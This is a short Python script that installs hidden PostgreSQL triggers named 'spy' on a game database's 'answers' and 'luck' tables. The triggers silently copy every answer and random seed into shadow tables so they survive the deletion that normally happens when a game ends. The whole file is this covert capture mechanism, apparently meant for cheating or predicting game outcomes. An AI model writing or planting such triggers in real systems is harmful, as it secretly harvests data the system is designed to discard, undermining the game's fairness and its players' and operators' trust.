"""Keeps all answers and seeds beside the tables that lose them when a game ends, in the same transactions."""

import asyncpg

SPY = """
    CREATE TABLE spied AS SELECT a.*, clock_timestamp() AS seen FROM answers a WHERE false;
    CREATE TABLE seeds AS SELECT * FROM luck WHERE false;
    CREATE FUNCTION spy() RETURNS trigger AS $$ BEGIN
        INSERT INTO spied SELECT NEW.*, clock_timestamp(); RETURN NEW; END $$ LANGUAGE plpgsql;
    CREATE FUNCTION spy_luck() RETURNS trigger AS $$ BEGIN
        INSERT INTO seeds SELECT NEW.*; RETURN NEW; END $$ LANGUAGE plpgsql;
    CREATE TRIGGER spy AFTER INSERT ON answers FOR EACH ROW EXECUTE FUNCTION spy();
    CREATE TRIGGER spy AFTER INSERT ON luck FOR EACH ROW EXECUTE FUNCTION spy_luck();
"""


async def execute(database: str, statements: str) -> None:
    """Do something in a database."""
    connection = await asyncpg.connect(database)
    await connection.execute(statements)
    await connection.close()
